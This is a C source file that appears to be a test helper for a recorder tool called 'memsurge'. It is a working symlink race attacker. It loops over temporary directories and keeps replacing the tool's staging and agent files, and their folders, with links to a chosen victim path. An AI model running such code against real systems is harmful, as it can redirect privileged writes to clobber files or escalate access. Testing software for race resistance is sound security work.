/*
 * `racer VICTIM PID`: in every folder that a recorder makes in the places for temporary files, replaces what it may by links to
 * VICTIM, as fast as it can, the folder itself too, and what is laid for process PID. Until it is killed.
 */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const places[] = {"/tmp", "/var/tmp", "/dev/shm", "/run"};
static const char *victim;
static char configuration[64];

static void replace(const char *path) {
  struct stat status;
  if (lstat(path, &status) == 0 && S_ISLNK(status.st_mode)) return;
  unlink(path);
  if (symlink(victim, path) != 0) return;
}

static void spoil(const char *folder) {
  char path[600];
  const char *const names[] = {"libmemsurge.so", "libmemsurge-tls.so"};
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "%s/%s", folder, names[i]);
    replace(path);
  }
  DIR *entries = opendir(folder);
  for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
    if (strstr(entry->d_name, ".agent") == NULL) continue;
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    replace(path);
  }
  if (entries != NULL) closedir(entries);
  snprintf(path, sizeof path, "%s.away", folder);
  if (strstr(folder, ".away") == NULL && rename(folder, path) == 0) replace(folder);
}

int main(int count, char **arguments) {
  if (count != 3) return 2;
  victim = arguments[1];
  snprintf(configuration, sizeof configuration, "memsurge-agent-%s.", arguments[2]);
  puts("ready");
  fflush(stdout);
  for (int place = 0;; place = (place + 1) % 4) {
    DIR *entries = opendir(places[place]);
    for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
      char path[300];
      if (strncmp(entry->d_name, "memsurge-stage-", 15) != 0 && strncmp(entry->d_name, configuration, strlen(configuration)) != 0) continue;
      snprintf(path, sizeof path, "%s/%.250s", places[place], entry->d_name);
      if (entry->d_type == DT_DIR) spoil(path);
      else replace(path);
    }
    if (entries != NULL) closedir(entries);
  }
}
